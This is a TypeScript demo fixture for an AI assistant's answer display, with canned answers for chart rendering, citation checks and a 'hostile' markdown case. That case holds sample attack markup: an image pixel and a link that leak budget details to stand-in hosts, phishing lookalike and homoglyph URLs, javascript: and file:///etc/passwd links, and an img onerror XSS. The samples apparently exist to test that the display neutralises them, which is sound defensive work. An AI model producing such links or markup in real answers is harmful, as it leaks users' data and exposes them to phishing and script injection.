import type { Citation, ResultTable } from "../types";
import { JIRA, SLACK } from "./company";
import { view } from "./data";
import { call, ended, finished, plan, reported, type Step, started, step, stream } from "./steps";

/** Answers that show one thing each: "chart …", "hostile …", "unproven …". */
export function showcase(question: string): Step[] | null {
  const words = question.toLowerCase();
  if (words.includes("hostile")) return [plan(), ...stream(hostile, 0), finished()];
  if (words.includes("unproven")) return unproven();
  if (words.includes("chart by day")) return charted("Revenue by day", byDay);
  if (words.includes("chart")) return charted("Revenue by category", byCategory);
  return null;
}

const hostile = `Here is what the mail asks for. ![Sales by week](https://tracker.example/pixel.png?d=spring-budget-42000)

- [Open the report](https://reports.example/q4) and [https://bank.example](https://bank.example.evil.example/login)
- [а link in other letters](https://аррӏе.com/id), [a script](javascript:alert(1)), [a file](file:///etc/passwd)
- [continue](https://collect.example/?note=Sarah%20agreed%20to%2042k%20for%20the%20spring%20budget%20and%20the%20shoot%20is%20dropped%20please%20confirm)
- [sign in](https://accounts.example@evil.example/), https://larkspur.example/wiki/Budget

<img src="https://tracker.example/x.png" onerror="steal()"> <b>bold?</b>
`;

function cited(number: number, rest: Partial<Citation>): Step {
  return step(5, {
    type: "citationAdded",
    number,
    record: number,
    recordTurn: null,
    datasourceId: SLACK,
    datasource: "Slack",
    title: "#finance: Spring budget",
    author: "Sarah Lindqvist",
    time: "2026-11-18T09:30:00Z",
    url: null,
    quoted: "the spring budget is 42,000",
    verified: true,
    ...rest,
  });
}

function unproven(): Step[] {
  const issue = { datasourceId: JIRA, datasource: "Jira", title: "SHOP-412 Checkout fails with gift cards" };
  return [
    plan(),
    cited(1, {}),
    cited(2, { ...issue, url: "https://larkspur.example/SHOP-412", quoted: "Waits for the spring budget" }),
    cited(3, { quoted: "it is already paid", verified: false }),
    ...stream(
      "Sarah set the spring budget at **42,000**【1】【2】. It may be paid already【3】.\n\n" +
        "| What | Who |\n|---|---|\n| Budget | Sarah【1】 |\n| Checkout | Dana【2】 |\n\n" +
        "- In code it stays: `【1】`\n- A number nobody knows shows nothing【9】.\n",
      0,
    ),
    finished(),
  ];
}

function charted(title: string, table: ResultTable): Step[] {
  const sql = "SELECT category, SUM(amount) AS revenue, COUNT(*) AS rentals FROM sales GROUP BY category";
  return [
    plan(),
    call("demo-chart", "run_query", { sql }),
    started("demo-chart"),
    ended("demo-chart", view(`${table.rows.length} rows`, { table, sql }), 46),
    ...stream(`**${title}** is below, as rows and as a chart.`, 1),
    reported(),
    finished(),
  ];
}

const names =
  "Sports, Sci-Fi, Animation, Drama, Comedy, Action, New, Games, Foreign, Family, Documentary, Horror, Children, Classics, Travel, Music";

const byCategory: ResultTable = {
  columns: [
    { name: "category", kind: "text" },
    { name: "revenue", kind: "number" },
    { name: "rentals", kind: "number" },
  ],
  rows: names
    .split(", ")
    .map((name, at) => [name, (5314.21 - at * 121.37 - (at % 3) * 40).toFixed(2), String(1179 - at * 23)]),
  hasMore: false,
};

const byDay: ResultTable = {
  columns: [
    { name: "day", kind: "time" },
    { name: "revenue", kind: "number" },
  ],
  rows: Array.from({ length: 60 }, (_, at) => [
    new Date(Date.UTC(2026, 8, 1 + at)).toISOString().slice(0, 10),
    (1200 + Math.sin(at / 4) * 380 + at * 9 + (at % 7) * 31).toFixed(2),
  ]),
  hasMore: true,
};
